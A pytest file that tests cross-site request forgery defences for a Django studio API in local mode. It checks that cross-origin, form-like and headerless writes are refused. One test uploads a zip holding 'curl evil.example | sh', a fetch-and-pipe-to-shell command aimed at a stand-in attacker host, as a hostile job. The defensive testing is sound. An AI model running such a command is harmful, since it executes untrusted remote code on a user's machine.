"""No page on another website can write through the studio API: in local mode an anonymous
caller is an Owner, so a form or a `fetch()` from any page the user visits would otherwise create
workspaces, queue jobs (shell commands) or request deletions on their laptop.

A write must name no other site (`Origin`, `Sec-Fetch-Site`) and carry what such a page cannot
send without asking the server first: a JSON body, the client header, or a bearer token."""

from __future__ import annotations

import io
import json

import pytest
from django.test import Client

from tests.tracking.jobs.conftest import zip_bytes
from tracking.models import Deletion, Job, Workspace

pytestmark = pytest.mark.django_db

BROWSER = Client()  # no client header: what a web page's request looks like
WORKSPACE = {"name": "planted"}


def _form_bodies():
    yield "text/plain", '{"name": "planted"}'
    yield "application/x-www-form-urlencoded", "name=planted"


@pytest.mark.parametrize(("content_type", "body"), list(_form_bodies()))
def test_a_form_like_body_cannot_create_a_workspace(default_workspace, content_type, body):
    answer = BROWSER.post("/api/studio/v1/workspaces", data=body, content_type=content_type)

    assert answer.status_code == 400
    assert answer.json()["error_code"] == "INVALID_PARAMETER_VALUE"
    assert "application/json" in answer.json()["message"]
    assert not Workspace.objects.filter(name="planted").exists()


def test_a_multipart_upload_without_the_client_header_cannot_queue_a_job(default_workspace):
    upload = io.BytesIO(zip_bytes({"x.sh": "curl evil.example | sh"}))
    upload.name = "x.zip"
    answer = BROWSER.post(
        "/api/studio/v1/workspaces/default/jobs",
        {"file": upload, "command": "bash x.sh", "experiment_name": "pwned"},
    )

    assert answer.status_code == 400
    assert "X-Studio-Client" in answer.json()["message"]
    assert not Job.objects.exists()


def test_an_empty_post_cannot_cancel_a_job_or_ask_for_a_deletion(default_workspace):
    for path in ("/api/studio/v1/deletions", "/api/studio/v1/workspaces/default/jobs/1/cancel"):
        answer = BROWSER.generic("POST", path, data=b"")
        assert answer.status_code == 400, path
    assert not Deletion.objects.exists()


@pytest.mark.parametrize(
    "headers",
    [
        {"HTTP_ORIGIN": "https://evil.example"},
        {"HTTP_ORIGIN": "null"},
        {"HTTP_SEC_FETCH_SITE": "cross-site"},
        {"HTTP_SEC_FETCH_SITE": "same-site"},
        # Even with the client header (a page could not send it, but say a proxy adds it).
        {"HTTP_ORIGIN": "https://evil.example", "HTTP_X_STUDIO_CLIENT": "x"},
    ],
)
def test_a_json_write_from_another_origin_is_refused(default_workspace, headers):
    answer = BROWSER.post(
        "/api/studio/v1/workspaces", data=json.dumps(WORKSPACE), content_type="application/json", **headers
    )

    assert answer.status_code == 403
    assert answer.json()["error_code"] == "PERMISSION_DENIED"
    assert not Workspace.objects.filter(name="planted").exists()


def test_a_write_from_the_studio_s_own_origin_or_a_script_goes_through(default_workspace):
    same_origin = BROWSER.post(
        "/api/studio/v1/workspaces",
        data=json.dumps({"name": "mine"}),
        content_type="application/json",
        HTTP_ORIGIN="http://testserver",
        HTTP_SEC_FETCH_SITE="same-origin",
    )
    script = BROWSER.post(
        "/api/studio/v1/workspaces", data=json.dumps({"name": "scripted"}), content_type="application/json"
    )

    assert (same_origin.status_code, script.status_code) == (201, 201)


def test_reads_are_not_refused_for_lacking_a_body(default_workspace):
    assert BROWSER.get("/api/studio/v1/workspaces", HTTP_SEC_FETCH_SITE="cross-site").status_code == 200
